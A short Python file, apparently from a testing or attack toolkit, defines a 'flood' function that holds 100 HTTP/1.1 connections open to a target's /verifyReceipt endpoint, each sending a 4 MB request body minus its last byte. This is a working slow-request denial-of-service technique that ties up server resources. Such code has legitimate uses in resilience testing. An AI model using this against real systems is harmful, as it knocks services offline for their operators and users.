"""A hundred HTTP/1.1 connections with requests of 4 MB, each without its last byte."""

from wire import hold_connections, post

CONNECTIONS = 100


def flood(target, until):
    return hold_connections(target.http, until, post("/verifyReceipt", b" " * 4_000_000)[:-1], CONNECTIONS)
